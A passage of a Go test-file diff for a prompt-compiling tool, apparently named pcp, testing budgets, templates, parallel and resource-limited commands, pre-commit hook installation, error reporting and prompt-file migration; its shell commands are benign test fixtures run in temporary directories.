+		t.Errorf("A failed contains check should fail the compile, got %v", err)
+	}
+
+	for _, invalid := range []string{
+		"prompt:\n  - assert: {var: a, label: b, contains: x}",
+		"prompt:\n  - assert: {var: a}",
+		"prompt:\n  - assert: {var: a, matches: \"(\"}",
+	} {
+		if _, err := compile(invalid); err == nil {
+			t.Errorf("Expected a validation error for:\n%s", invalid)
+		}
+	}
+}
+
+func TestEmptySectionWarnings(t *testing.T) {
+	tmpDir := t.TempDir()
+	if err := os.WriteFile(filepath.Join(tmpDir, "empty.txt"), []byte("\n\n"), 0644); err != nil {
+		t.Fatalf("Failed to create file: %v", err)
+	}
+	promptFile := filepath.Join(tmpDir, "prompt.yml")
+	promptContent := `prompt:
+  - file: empty.txt
+  - command: "true"
+  - command: "echo output"
+  - text: ""`
+	if err := os.WriteFile(promptFile, []byte(promptContent), 0644); err != nil {
+		t.Fatalf("Failed to create prompt file: %v", err)
+	}
+
+	compiled, err := compilePromptFile(Options{PromptFile: promptFile, MaxWords: 128000, DelimiterStyle: "xml", Quiet: true})
+	if err != nil {
+		t.Fatalf("compilePromptFile failed: %v", err)
+	}
+	if strings.Join(compiled.Stats.EmptySections, ",") != "empty.txt,true" {
+		t.Errorf("Empty file and command sections should be flagged, got %v", compiled.Stats.EmptySections)
+	}
+	if len(compiled.Stats.Warnings) != 2 || compiled.Stats.Warnings[0] != "section empty.txt is empty" {
+		t.Errorf("Empty sections should warn, got %v", compiled.Stats.Warnings)
+	}
+
+	var stats bytes.Buffer
+	printStats(&stats, compiled.Stats)
+	if !strings.Contains(stats.String(), "empty sections: 2\n    empty.txt\n    true\n") {
+		t.Errorf("Stats should list empty sections, got:\n%s", stats.String())
+	}
+}
+
+func TestExactBudget(t *testing.T) {
+	tmpDir := t.TempDir()
+	promptFile := filepath.Join(tmpDir, "prompt.yml")
+	promptContent := `prompt:
+  - text: "one two three"
+  - text: "four five six"`
+	if err := os.WriteFile(promptFile, []byte(promptContent), 0644); err != nil {
+		t.Fatalf("Failed to create prompt file: %v", err)
+	}
+	opts := Options{PromptFile: promptFile, MaxWords: 10, DelimiterStyle: "xml"}
+
+	// Six content words fit, but each header adds four more
+	if _, err := compilePromptFile(opts); err != nil {
+		t.Fatalf("Content alone fits the budget: %v", err)
+	}
+	opts.ExactBudget = true
+	_, err := compilePromptFile(opts)
+	var limitErr ErrWordLimitExceeded
+	if !errors.As(err, &limitErr) {
+		t.Fatalf("Headers should count with -exact-budget, got %v", err)
+	}
+
+	opts.MaxWords = 14
+	separator := "\n-- next --\n"
+	opts.SectionSeparator = &separator
+	if _, err := compilePromptFile(opts); !errors.As(err, &limitErr) || limitErr.Current != 17 {
+		t.Errorf("Separator words should count too, got %v", err)
+	}
+
+	opts.Overflow = "truncate"
+	compiled, err := compilePromptFile(opts)
+	if err != nil {
+		t.Fatalf("compilePromptFile failed: %v", err)
+	}
+	output, _ := renderOutput(compiled, "text", "xml", separator)
+	if words := countWords(output); words > opts.MaxWords {
+		t.Errorf("Truncated output has %d words, over the budget of %d:\n%s", words, opts.MaxWords, output)
+	}
+	if compiled.Stats.Words != countWords(output) {
+		t.Errorf("Stats should count the assembled output, got %d for %d words", compiled.Stats.Words, countWords(output))
+	}
+	var stats bytes.Buffer
+	printStats(&stats, compiled.Stats)
+	expected := fmt.Sprintf("output words: %d (headers and separators add %d)\n  budgeted on: output words (-exact-budget)\n", countWords(output), countWords(output)-compiled.Stats.ContentWords)
+	if !strings.Contains(stats.String(), expected) {
+		t.Errorf("Stats should compare the counts, expected %q in:\n%s", expected, stats.String())
+	}
+
+	// -stats compares them without changing what is budgeted
+	compiled, err = compilePromptFile(Options{PromptFile: promptFile, MaxWords: 10, DelimiterStyle: "xml", Stats: true})
+	if err != nil {
+		t.Fatalf("compilePromptFile failed: %v", err)
+	}
+	if compiled.Stats.Words != 6 || compiled.Stats.ContentWords != 6 || compiled.Stats.OutputWords != 14 || compiled.Stats.ExactBudget {
+		t.Errorf("Unexpected word counts in %+v", compiled.Stats)
+	}
+}
+
+func TestTemplateText(t *testing.T) {
+	tmpDir := t.TempDir()
+	if err := os.WriteFile(filepath.Join(tmpDir, "a.txt"), []byte("alpha beta"), 0644); err != nil {
+		t.Fatalf("Failed to create file: %v", err)
+	}
+	if err := os.WriteFile(filepath.Join(tmpDir, "nested.yml"), []byte(`prompt:
+  - text: "{{.SectionCount}} sections, {{.WordsRemaining}} left"
+    template: true`), 0644); err != nil {
+		t.Fatalf("Failed to create nested prompt: %v", err)
+	}
+	promptFile := filepath.Join(tmpDir, "prompt.yml")
+	compile := func(promptContent string) (CompiledContent, error) {
+		t.Helper()
+		if err := os.WriteFile(promptFile, []byte(promptContent), 0644); err != nil {
+			t.Fatalf("Failed to create prompt file: %v", err)
+		}
+		return compilePromptFile(Options{PromptFile: promptFile, MaxWords: 100, DelimiterStyle: "xml"})
+	}
+
+	compiled, err := compile(`prompt:
+  - text: "You have {{.FileCount}} files totaling {{.WordsUsed}} words:{{range .Files}} {{.}}{{end}}"
+    template: true
+  - file: "a.txt"
+  - command: "echo one two three"
+  - prompt: "nested.yml"`)
+	if err != nil {
+		t.Fatalf("compilePromptFile failed: %v", err)
+	}
+	if got := compiled.Sections[0].Content; !strings.Contains(got, "You have 1 files totaling 5 words: a.txt") {
+		t.Errorf("Unexpected template output: %q", got)
+	}
+	if got := compiled.Sections[3].Content; !strings.Contains(got, "2 sections, 95 left") {
+		t.Errorf("Nested template should render too, got %q", got)
+	}
+	if compiled.Stats.Words != 5+8+4 {
+		t.Errorf("Rendered template words should be charged, got %d", compiled.Stats.Words)
+	}
+
+	for _, invalid := range []string{
+		"prompt:\n  - text: \"{{.WordsUsed\"\n    template: true",
+		"prompt:\n  - command: \"echo {{.WordsUsed}}\"\n    template: true",
+	} {
+		if _, err := compile(invalid); err == nil {
+			t.Errorf("Expected a validation error for:\n%s", invalid)
+		}
+	}
+	if _, err := compile("prompt:\n  - text: \"{{.Nope}}\"\n    template: true"); err == nil {
+		t.Error("Unknown template fields should fail the compile")
+	}
+}
+
+func TestTemplateInclude(t *testing.T) {
+	tmpDir := t.TempDir()
+	if err := os.MkdirAll(filepath.Join(tmpDir, "sub"), 0755); err != nil {
+		t.Fatalf("Failed to create directory: %v", err)
+	}
+	if err := os.WriteFile(filepath.Join(tmpDir, "sub", "VERSION"), []byte("1.25\n"), 0644); err != nil {
+		t.Fatalf("Failed to create file: %v", err)
+	}
+	if err := os.WriteFile(filepath.Join(tmpDir, "sub", "nested.yml"), []byte(`prompt:
+  - text: "Use Go {{include \"VERSION\"}} or older."
+    template: true`), 0644); err != nil {
+		t.Fatalf("Failed to create nested prompt: %v", err)
+	}
+	promptFile := filepath.Join(tmpDir, "prompt.yml")
+	compile := func(promptContent string) (CompiledContent, error) {
+		t.Helper()
+		if err := os.WriteFile(promptFile, []byte(promptContent), 0644); err != nil {
+			t.Fatalf("Failed to create prompt file: %v", err)
+		}
+		return compilePromptFile(Options{PromptFile: promptFile, MaxWords: 100, DelimiterStyle: "xml"})
+	}
+
+	compiled, err := compile("prompt:\n  - prompt: sub/nested.yml")
+	if err != nil {
+		t.Fatalf("compilePromptFile failed: %v", err)
+	}
+	if !strings.Contains(compiled.Sections[0].Content, "Use Go 1.25 or older.") {
+		t.Errorf("Include should resolve against the nested prompt and embed inline, got %q", compiled.Sections[0].Content)
+	}
+	versionPath, _ := filepath.Abs(filepath.Join(tmpDir, "sub", "VERSION"))
+	if !slices.Contains(compiled.Dependencies, versionPath) {
+		t.Errorf("Included files should be dependencies, got %v", compiled.Dependencies)
+	}
+
+	compiled, err = compile(`prompt:
+  - text: "{{include \"missing.md\"}}"`)
+	if err != nil || compiled.Sections[0].Content != "{{include \"missing.md\"}}\n" {
+		t.Errorf("Include should only run in template text, got %q, %v", compiled.Sections[0].Content, err)
+	}
+
+	_, err = compile(`prompt:
+  - text: "{{include \"missing.md\"}}"
+    template: true`)
+	var notFound ErrFileNotFound
+	if !errors.As(err, &notFound) {
+		t.Errorf("Expected ErrFileNotFound, got %v", err)
+	}
+}
+
+func TestCommentOperation(t *testing.T) {
+	tmpDir := t.TempDir()
+	promptFile := filepath.Join(tmpDir, "prompt.yml")
+	promptContent := `prompt:
+  - comment: "keep this short"
+  - text: "hello world"`
+	if err := os.WriteFile(promptFile, []byte(promptContent), 0644); err != nil {
+		t.Fatalf("Failed to create prompt file: %v", err)
+	}
+	opts := Options{PromptFile: promptFile, MaxWords: 100, DelimiterStyle: "xml"}
+
+	compiled, err := compilePromptFile(opts)
+	if err != nil {
+		t.Fatalf("compilePromptFile failed: %v", err)
+	}
+	if len(compiled.Sections) != 1 || compiled.Stats.Words != 2 {
+		t.Errorf("Comments should not be emitted or charged, got %d sections and %d words", len(compiled.Sections), compiled.Stats.Words)
+	}
+
+	plan, err := resolvePlan(opts)
+	if err != nil {
+		t.Fatalf("resolvePlan failed: %v", err)
+	}
+	var out bytes.Buffer
+	printPlan(&out, plan)
+	if !strings.Contains(out.String(), "prompt.yml:0 comment keep this short\n") {
+		t.Errorf("Comments should be listed in the plan, got:\n%s", out.String())
+	}
+
+	if err := os.WriteFile(promptFile, []byte("prompt:\n  - comment: note\n    label: x"), 0644); err != nil {
+		t.Fatalf("Failed to create prompt file: %v", err)
+	}
+	if _, err := compilePromptFile(opts); err == nil {
+		t.Error("Labeled comments should be rejected")
+	}
+}
+
+func TestMaxOutputBytes(t *testing.T) {
+	tmpDir := t.TempDir()
+	minified := strings.Repeat("var-a=1;", 500)
+	if err := os.WriteFile(filepath.Join(tmpDir, "app.min.js"), []byte(minified), 0644); err != nil {
+		t.Fatalf("Failed to create file: %v", err)
+	}
+	promptFile := filepath.Join(tmpDir, "prompt.yml")
+	promptContent := `prompt:
+  - text: "Review this bundle."
+  - file: "app.min.js"`
+	if err := os.WriteFile(promptFile, []byte(promptContent), 0644); err != nil {
+		t.Fatalf("Failed to create prompt file: %v", err)
+	}
+	opts := Options{PromptFile: promptFile, MaxWords: 100, DelimiterStyle: "xml", MaxOutputBytes: 1000}
+
+	_, err := compilePromptFile(opts)
+	var limitErr ErrByteLimitExceeded
+	if !errors.As(err, &limitErr) || limitErr.Limit != 1000 {
+		t.Fatalf("Expected ErrByteLimitExceeded, got %v", err)
+	}
+
+	for _, policy := range []string{"truncate", "truncate-proportional"} {
+		opts.Overflow = policy
+		compiled, err := compilePromptFile(opts)
+		if err != nil {
+			t.Fatalf("%s: compilePromptFile failed: %v", policy, err)
+		}
+		output, _ := renderOutput(compiled, "text", "xml", defaultSectionSeparator)
+		if len(output) > opts.MaxOutputBytes {
+			t.Errorf("%s: output is %d bytes, over the limit of %d", policy, len(output), opts.MaxOutputBytes)
+		}
+		if !strings.Contains(output, "Review this bundle.") || !strings.Contains(output, "bytes ...]") {
+			t.Errorf("%s: expected the text kept and the bundle truncated:\n%s", policy, output)
+		}
+		if compiled.Stats.TruncatedBytes == 0 {
+			t.Errorf("%s: truncated bytes should be counted", policy)
+		}
+	}
+
+	// The limit is on the output as written, in its format: json escapes
+	// markup, so content that fits as text can be too big as json
+	markup := strings.Repeat("<b>\"&\"</b>\n", 60)
+	if err := os.WriteFile(filepath.Join(tmpDir, "page.html"), []byte(markup), 0644); err != nil {
+		t.Fatalf("Failed to create file: %v", err)
+	}
+	if err := os.WriteFile(promptFile, []byte("prompt:\n  - text: \"Review this page.\"\n  - file: \"page.html\"\n"), 0644); err != nil {
+		t.Fatalf("Failed to create prompt file: %v", err)
+	}
+	opts = Options{PromptFile: promptFile, MaxWords: 1000, DelimiterStyle: "xml", MaxOutputBytes: 1000}
+	if _, err := compilePromptFile(opts); err != nil {
+		t.Fatalf("The text output fits the limit: %v", err)
+	}
+	opts.Format = "json"
+	if _, err := compilePromptFile(opts); !errors.As(err, &limitErr) || limitErr.Current <= 1000 {
+		t.Errorf("Expected the json output to exceed the limit, got %v", err)
+	}
+	opts.Overflow = "truncate"
+	compiled, err := compilePromptFile(opts)
+	if err != nil {
+		t.Fatalf("compilePromptFile failed: %v", err)
+	}
+	output, _ := renderOutput(compiled, "json", "xml", defaultSectionSeparator)
+	if len(output) > opts.MaxOutputBytes || !json.Valid([]byte(output)) {
+		t.Errorf("Expected valid json within %d bytes, got %d bytes:\n%s", opts.MaxOutputBytes, len(output), output)
+	}
+
+	content := "é" + strings.Repeat("x", 100)
+	allowance := len(byteTruncationMarker(len(content))) + 2
+	section, _ := truncateSectionBytes(ContentSection{Content: content, Type: TextOp}, allowance, "truncate", "xml")
+	if !utf8.ValidString(section.Content) || len(section.Content) > allowance {
+		t.Errorf("Truncation should fit the allowance on a character boundary, got %q", section.Content)
+	}
+}
+
+func TestParallelJobs(t *testing.T) {
+	tmpDir := t.TempDir()
+	promptFile := filepath.Join(tmpDir, "prompt.yml")
+	promptContent := `prompt:
+  - command: "touch busy-1; sleep 0.3; rm busy-1; echo one"
+  - command: "touch busy-2; sleep 0.3; rm busy-2; echo two"
+  - command: "ls | grep -c busy-"
+    ok_exit_codes: [0, 1]
+    serial: true
+  - command: "touch busy-3; sleep 0.3; rm busy-3; echo three"
+  - command: "touch busy-4; sleep 0.3; rm busy-4; echo four"
+  - command: "echo captured"
+    capture_as: word
+  - command: "echo ${word} again"`
+	if err := os.WriteFile(promptFile, []byte(promptContent), 0644); err != nil {
+		t.Fatalf("Failed to create prompt file: %v", err)
+	}
+
+	start := time.Now()
+	compiled, err := compilePromptFile(Options{PromptFile: promptFile, MaxWords: 100, DelimiterStyle: "xml", WorkDir: tmpDir, Jobs: 4})
+	if err != nil {
+		t.Fatalf("compilePromptFile failed: %v", err)
+	}
+	if elapsed := time.Since(start); elapsed > time.Second {
+		t.Errorf("Four 0.3s commands with -jobs 4 took %v", elapsed)
+	}
+
+	var contents []string
+	for _, section := range compiled.Sections {
+		contents = append(contents, strings.TrimSpace(section.Content))
+	}
+	expected := []string{"one", "two", "0", "three", "four", "captured", "captured again"}
+	if !slices.Equal(contents, expected) {
+		t.Errorf("Sections should keep plan order and the serial command should run alone, got %q", contents)
+	}
+
+	if err := os.WriteFile(promptFile, []byte("prompt:\n  - text: hi\n    serial: true"), 0644); err != nil {
+		t.Fatalf("Failed to create prompt file: %v", err)
+	}
+	if _, err := compilePromptFile(Options{PromptFile: promptFile, MaxWords: 100, DelimiterStyle: "xml"}); err == nil {
+		t.Error("serial should be rejected on non-command operations")
+	}
+}
+
+func TestCommandLimits(t *testing.T) {
+	if runtime.GOOS == "windows" {
+		t.Skip("command limits are not supported on Windows")
+	}
+	tmpDir := t.TempDir()
+	promptFile := filepath.Join(tmpDir, "prompt.yml")
+	compile := func(promptContent string) (CompiledContent, error) {
+		t.Helper()
+		if err := os.WriteFile(promptFile, []byte(promptContent), 0644); err != nil {
+			t.Fatalf("Failed to create prompt file: %v", err)
+		}
+		return compilePromptFile(Options{PromptFile: promptFile, MaxWords: 100, DelimiterStyle: "xml"})
+	}
+
+	compiled, err := compile(`prompt:
+  - command: "ulimit -t; ulimit -n"
+    limits: {cpu_time: 1500ms, open_files: 64}
+  - command: ["sh", "-c", "ulimit -n"]
+    limits: {open_files: 32}`)
+	if err != nil {
+		t.Fatalf("compilePromptFile failed: %v", err)
+	}
+	if got := compiled.Sections[0].Content; got != "2\n64\n" {
+		t.Errorf("Shell command limits not applied, got %q", got)
+	}
+	if got := compiled.Sections[1].Content; got != "32\n" {
+		t.Errorf("Argv command limits not applied, got %q", got)
+	}
+
+	if size, err := parseByteSize("1.5KiB"); err != nil || size != 1536 {
+		t.Errorf("parseByteSize(1.5KiB) = %d, %v", size, err)
+	}
+	for _, invalid := range []string{
+		"prompt:\n  - command: ls\n    limits: {memory: lots}",
+		"prompt:\n  - command: ls\n    limits: {cpu_time: 5}",
+		"prompt:\n  - text: hi\n    limits: {open_files: 5}",
+	} {
+		if _, err := compile(invalid); err == nil {
+			t.Errorf("Expected a validation error for:\n%s", invalid)
+		}
+	}
+}
+
+func TestPrintCommands(t *testing.T) {
+	tmpDir := t.TempDir()
+	promptFile := filepath.Join(tmpDir, "prompt.yml")
+	promptContent := `vars:
+  q: "it's"
+prompt:
+  - text: "not a command"
+  - command: "grep -n ${q} app.log"
+  - command: "echo main"
+    capture_as: branch
+  - command: ["git", "log", "${branch}"]
+    limits: {cpu_time: 5s}`
+	if err := os.WriteFile(promptFile, []byte(promptContent), 0644); err != nil {
+		t.Fatalf("Failed to create prompt file: %v", err)
+	}
+	opts := Options{PromptFile: promptFile, MaxWords: 100, DelimiterStyle: "xml"}
+	ctx, err := newCompileContext(opts)
+	if err != nil {
+		t.Fatalf("newCompileContext failed: %v", err)
+	}
+	plan, err := buildPlan(promptFile, ctx)
+	if err != nil {
+		t.Fatalf("buildPlan failed: %v", err)
+	}
+
+	var out bytes.Buffer
+	printCommands(&out, plan, tmpDir, ctx)
+	output := out.String()
+	for _, want := range []string{
+		"prompt.yml:1 $ grep -n 'it'\\''s' app.log\n    cwd: " + tmpDir + "\n",
+		"prompt.yml:2 $ echo main\n",
+		"prompt.yml:3 $ git log '${branch}'\n",
+		"    ulimit -t 5\n    (${branch} is captured when the prompt runs)\n",
+	} {
+		if !strings.Contains(output, want) {
+			t.Errorf("Expected %q in:\n%s", want, output)
+		}
+	}
+	if strings.Contains(output, "not a command") {
+		t.Errorf("Only commands should be listed:\n%s", output)
+	}
+
+	if got := envChanges([]string{"A=1", "B=2"}, []string{"A=1", "B=3", "C=4"}); !slices.Equal(got, []string{"B=3", "C=4"}) {
+		t.Errorf("envChanges = %v", got)
+	}
+}
+
+func TestKeepGoing(t *testing.T) {
+	tmpDir := t.TempDir()
+	promptFile := filepath.Join(tmpDir, "prompt.yml")
+	promptContent := `prompt:
+  - file: "missing.md"
+  - text: "still here"
+  - command: "exit 3"
+  - assert: {label: nothing, contains: x}`
+	if err := os.WriteFile(promptFile, []byte(promptContent), 0644); err != nil {
+		t.Fatalf("Failed to create prompt file: %v", err)
+	}
+	outputFile := filepath.Join(tmpDir, "out.txt")
+	opts := Options{PromptFile: promptFile, OutputFile: outputFile, MaxWords: 100, DelimiterStyle: "xml"}
+
+	var notFound ErrFileNotFound
+	if _, err := compileAndWrite(opts); !errors.As(err, &notFound) {
+		t.Fatalf("Without -keep-going the first failure should stop the compile, got %v", err)
+	}
+
+	opts.KeepGoing = true
+	compiled, err := compileAndWrite(opts)
+	var failed ErrOperationsFailed
+	if !errors.As(err, &failed) || len(failed.Failures) != 3 {
+		t.Fatalf("Expected three failures, got %v", err)
+	}
+	if !strings.Contains(err.Error(), "prompt.yml:4 (command: exit 3)") {
+		t.Errorf("Summary should describe each failure, got:\n%v", err)
+	}
+	if len(compiled.Sections) != 3 {
+		t.Errorf("Failed operations should leave placeholders, got %d sections", len(compiled.Sections))
+	}
+
+	output, readErr := os.ReadFile(outputFile)
+	if readErr != nil {
+		t.Fatalf("Output should still be written: %v", readErr)
+	}
+	for _, want := range []string{"[pcp: operation failed: file not found:", "still here", "<!-- pcp-source: exit 3 -->"} {
+		if !strings.Contains(string(output), want) {
+			t.Errorf("Expected %q in output:\n%s", want, output)
+		}
+	}
+}
+
+func TestCheckPromptFile(t *testing.T) {
+	tmpDir := t.TempDir()
+	if err := os.WriteFile(filepath.Join(tmpDir, "present.txt"), []byte("hello"), 0644); err != nil {
+		t.Fatalf("Failed to create file: %v", err)
+	}
+	promptFile := filepath.Join(tmpDir, "prompt.yml")
+	check := func(promptContent string) error {
+		t.Helper()
+		if err := os.WriteFile(promptFile, []byte(promptContent), 0644); err != nil {
+			t.Fatalf("Failed to create prompt file: %v", err)
+		}
+		ctx, err := newCompileContext(Options{PromptFile: promptFile, MaxWords: 100, DelimiterStyle: "xml"})
+		if err != nil {
+			t.Fatalf("newCompileContext failed: %v", err)
+		}
+		return checkPromptFile(promptFile, ctx)
+	}
+
+	marker := filepath.Join(tmpDir, "ran")
+	if err := check(`prompt:
+  - file: "present.txt"
+  - command: "touch ` + marker + `"
+    capture_as: name
+  - file: "${name}.txt"`); err != nil {
+		t.Errorf("Valid prompt failed the check: %v", err)
+	}
+	if _, err := os.Stat(marker); err == nil {
+		t.Error("-check must not run commands")
+	}
+
+	var notFound ErrFileNotFound
+	if err := check("prompt:\n  - file: missing.txt"); !errors.As(err, &notFound) {
+		t.Errorf("Expected ErrFileNotFound, got %v", err)
+	}
+	if err := check("prompt:\n  - file: ."); err == nil || !strings.Contains(err.Error(), "is a directory") {
+		t.Errorf("Expected a directory error, got %v", err)
+	}
+	var circular ErrCircularReference
+	if err := check("prompt:\n  - prompt: prompt.yml"); !errors.As(err, &circular) {
+		t.Errorf("Expected ErrCircularReference, got %v", err)
+	}
+}
+
+func TestHookInstall(t *testing.T) {
+	if _, err := exec.LookPath("git"); err != nil {
+		t.Skip("git not installed")
+	}
+	repo := t.TempDir()
+	if output, err := exec.Command("git", "init", "-q", repo).CombinedOutput(); err != nil {
+		t.Fatalf("git init failed: %v\n%s", err, output)
+	}
+
+	path, err := installPreCommitHook(repo, []string{"prompts/*.yml", "it's.yml"}, false)
+	if err != nil {
+		t.Fatalf("installPreCommitHook failed: %v", err)
+	}
+	if path != filepath.Join(repo, ".git", "hooks", "pre-commit") {
+		t.Errorf("Unexpected hook path %s", path)
+	}
+	hook, err := os.ReadFile(path)
+	if err != nil {
+		t.Fatalf("Failed to read hook: %v", err)
+	}
+	if !strings.Contains(string(hook), `git ls-files -- 'prompts/*.yml' 'it'\''s.yml' |`) || !strings.Contains(string(hook), `pcp -f "$file" -check`) {
+		t.Errorf("Unexpected hook:\n%s", hook)
+	}
+	if runtime.GOOS != "windows" {
+		if info, _ := os.Stat(path); info.Mode().Perm()&0100 == 0 {
+			t.Errorf("Hook should be executable, got %v", info.Mode())
+		}
+	}
+
+	if _, err := installPreCommitHook(repo, []string{"*.yml"}, false); err != nil {
+		t.Errorf("A hook written by pcp should be replaced without -force: %v", err)
+	}
+	if err := os.WriteFile(path, []byte("#!/bin/sh\nmake lint\n"), 0755); err != nil {
+		t.Fatalf("Failed to write hook: %v", err)
+	}
+	if _, err := installPreCommitHook(repo, []string{"*.yml"}, false); err == nil {
+		t.Error("Another tool's hook should not be replaced without -force")
+	}
+	if _, err := installPreCommitHook(repo, []string{"*.yml"}, true); err != nil {
+		t.Errorf("-force should replace the hook: %v", err)
+	}
+
+	if _, err := installPreCommitHook(t.TempDir(), []string{"*.yml"}, false); err == nil {
+		t.Error("Installing outside a git repository should fail")
+	}
+}
+
+func TestErrorLocations(t *testing.T) {
+	tmpDir := t.TempDir()
+	if err := os.WriteFile(filepath.Join(tmpDir, "nested.yml"), []byte("prompt:\n  - text: ok\n\n  - file: gone.txt\n"), 0644); err != nil {
+		t.Fatalf("Failed to create nested prompt: %v", err)
+	}
+	promptFile := filepath.Join(tmpDir, "prompt.yml")
+	compile := func(promptContent string) error {
+		t.Helper()
+		if err := os.WriteFile(promptFile, []byte(promptContent), 0644); err != nil {
+			t.Fatalf("Failed to create prompt file: %v", err)
+		}
+		_, err := compilePromptFile(Options{PromptFile: promptFile, MaxWords: 100, DelimiterStyle: "xml"})
+		return err
+	}
+	location := func(name string, line int) string {
+		return fmt.Sprintf("%s:%d: ", displayPath(filepath.Join(tmpDir, name)), line)
+	}
+
+	err := compile("prompt:\n  - text: a\n  - text: b\n  - file: missing.txt")
+	var located ErrAtLocation
+	var notFound ErrFileNotFound
+	if !errors.As(err, &located) || !errors.As(err, &notFound) || !strings.HasPrefix(err.Error(), location("prompt.yml", 4)) {
+		t.Errorf("Expected a runtime error at prompt.yml:4, got %v", err)
+	}
+
+	err = compile("prompt:\n  - text: a\n  - prompt: nested.yml")
+	if err == nil || !strings.HasPrefix(err.Error(), location("nested.yml", 4)) || strings.Count(err.Error(), ".yml:") != 1 {
+		t.Errorf("Expected the error at nested.yml:4 only, got %v", err)
+	}
+
+	err = compile("prompt:\n  - text: a\n  - text: b\n    file: c.txt")
+	if err == nil || !strings.HasPrefix(err.Error(), location("prompt.yml", 3)) || !strings.Contains(err.Error(), "exactly one of") {
+		t.Errorf("Expected a validation error at prompt.yml:3, got %v", err)
+	}
+
+	err = compile("definitions:\n  pair: &pair\n    - text: a\n    - file: missing.txt\nprompt:\n  - text: first\n  - *pair")
+	if err == nil || !strings.HasPrefix(err.Error(), location("prompt.yml", 4)) {
+		t.Errorf("Spliced aliases should report the line of the anchored operation, got %v", err)
+	}
+}
+
+func TestMultipleOperationKeys(t *testing.T) {
+	tmpDir := t.TempDir()
+	promptFile := filepath.Join(tmpDir, "prompt.yml")
+	promptContent := `prompt:
+  - command: "go test ./..."
+  - text: "Review this:"
+    label: intro
+    file: main.go`
+	if err := os.WriteFile(promptFile, []byte(promptContent), 0644); err != nil {
+		t.Fatalf("Failed to create prompt file: %v", err)
+	}
+
+	_, err := compilePromptFile(Options{PromptFile: promptFile, MaxWords: 100, DelimiterStyle: "xml"})
+	if !errors.Is(err, ErrOperationMultiple) {
+		t.Fatalf("Expected ErrOperationMultiple, got %v", err)
+	}
+	var multiple ErrMultipleOperationKeys
+	if !errors.As(err, &multiple) {
+		t.Fatalf("Expected ErrMultipleOperationKeys, got %v", err)
+	}
+	if !slices.Equal(multiple.Keys, []operationKey{{Name: "text", Line: 3}, {Name: "file", Line: 5}}) {
+		t.Errorf("Unexpected keys: %v", multiple.Keys)
+	}
+	if !strings.Contains(err.Error(), `found text (line 3), file (line 5). If these are separate operations, start each with its own "- "`) {
+		t.Errorf("Unexpected message: %v", err)
+	}
+}
+
+func TestUnknownKeys(t *testing.T) {
+	tmpDir := t.TempDir()
+	promptFile := filepath.Join(tmpDir, "prompt.yml")
+	parse := func(promptContent string) error {
+		t.Helper()
+		if err := os.WriteFile(promptFile, []byte(promptContent), 0644); err != nil {
+			t.Fatalf("Failed to create prompt file: %v", err)
+		}
+		_, err := parsePromptFile(promptFile)
+		return err
+	}
+
+	tests := []struct {
+		content string
+		message string
+	}{
+		{"prompt:\n  - text: a\n  - files: x", `prompt.yml:3: unknown key "files" (did you mean "file"?)`},
+		{"promt:\n  - text: a", `prompt.yml:1: unknown key "promt" (did you mean "prompt"?)`},
+		{"prompt:\n  - timestamp: {fromat: x}", `unknown key "fromat" (did you mean "format"?)`},
+		{"prompt:\n  - command: ls\n    limits: {memroy: 1GB}", `unknown key "memroy" (did you mean "memory"?)`},
+		{"outputs:\n  docs: {max_wrods: 5}\nprompt:\n  - text: a", `unknown key "max_wrods" (did you mean "max_words"?)`},
+		{"prompt:\n  - text: a\n    zzzzzz: 1", `prompt.yml:3: unknown key "zzzzzz"`},
+	}
+	for _, tt := range tests {
+		err := parse(tt.content)
+		var unknown ErrUnknownKey
+		if !errors.As(err, &unknown) || !strings.Contains(err.Error(), tt.message) {
+			t.Errorf("For:\n%s\nexpected %q, got %v", tt.content, tt.message, err)
+		}
+	}
+
+	valid := `definitions:
+  base: &base
+    max_words: 5
+    anything: goes
+vars:
+  lang: go
+prompt:
+  - command: ["echo", "hi"]
+    <<: {max_words: 5}
+  - text: a`
+	if err := parse(valid); err != nil {
+		t.Errorf("Valid prompt rejected: %v", err)
+	}
+	if err := parse("prompt:\n  - text: a\n    <<: {labl: x}"); err == nil {
+		t.Error("Merged keys should be checked too")
+	}
+}
+
+func TestPromptFileVersion(t *testing.T) {
+	tmpDir := t.TempDir()
+	if err := os.WriteFile(filepath.Join(tmpDir, "legacy.yml"), []byte("prompt:\n  - command: \"echo legacy; exit 1\""), 0644); err != nil {
+		t.Fatalf("Failed to create nested prompt: %v", err)
+	}
+	promptFile := filepath.Join(tmpDir, "prompt.yml")
+	compile := func(promptContent string) (CompiledContent, error) {
+		t.Helper()
+		if err := os.WriteFile(promptFile, []byte(promptContent), 0644); err != nil {
+			t.Fatalf("Failed to create prompt file: %v", err)
+		}
+		return compilePromptFile(Options{PromptFile: promptFile, MaxWords: 100, DelimiterStyle: "xml", Quiet: true})
+	}
+
+	// A version 2 file can include a version 1 file, which keeps its rules
+	compiled, err := compile("version: 2\nprompt:\n  - prompt: legacy.yml\n  - command: \"echo tolerated; exit 1\"\n    ok_exit_codes: [0, 1]")
+	if err != nil {
+		t.Fatalf("compilePromptFile failed: %v", err)
+	}
+	if len(compiled.Stats.Warnings) != 1 {
+		t.Errorf("Only the version 1 command should warn, got %v", compiled.Stats.Warnings)
+	}
+
+	var commandErr ErrCommandFailed
+	if _, err := compile("version: 2\nprompt:\n  - command: \"exit 1\""); !errors.As(err, &commandErr) {
+		t.Errorf("Version 2 commands should need status 0, got %v", err)
+	}
+	if _, err := compile("version: 3\nprompt:\n  - text: a"); err == nil || !strings.Contains(err.Error(), "version 3 is not supported") {
+		t.Errorf("Expected an unsupported version error, got %v", err)
+	}
+}
+
+func TestMigratePromptFile(t *testing.T) {
+	legacy := `# Shared review prompt
+vars:
+  dir: src
+prompt:
+  - text: "Review this:"
+  - command: "grep -rn TODO {{dir}}"
+  - command: "make check"
+    ok_exit_codes: []
+`
+	migrated, err := migratePromptFile([]byte(legacy))
+	if err != nil {
+		t.Fatalf("migratePromptFile failed: %v", err)
+	}
+	expected := `# Shared review prompt
+version: 2
+vars:
+  dir: src
+prompt:
+  - text: "Review this:"
+  - command: "grep -rn TODO {{dir}}"
+    ok_exit_codes: [0, 1]
+  - command: "make check"
+    ok_exit_codes: []
+`
+	if string(migrated) != expected {
+		t.Errorf("Unexpected migration:\n%s", migrated)
+	}
+
+	again, err := migratePromptFile(migrated)
+	if err != nil {
+		t.Fatalf("migratePromptFile failed: %v", err)
+	}
+	if string(again) != string(migrated) {
+		t.Errorf("A version 2 file should be left unchanged, got:\n%s", again)
+	}
+
+	diff := unifiedDiff("prompt.yml", "prompt.yml", legacy, string(migrated))
